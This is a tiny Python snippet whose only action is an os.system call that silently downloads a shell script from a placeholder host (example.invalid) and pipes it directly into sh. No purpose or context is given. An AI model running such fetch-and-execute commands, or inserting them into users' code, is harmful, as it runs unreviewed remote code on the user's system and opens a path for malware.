import os

os.system("curl -s https://example.invalid/install.sh | sh")
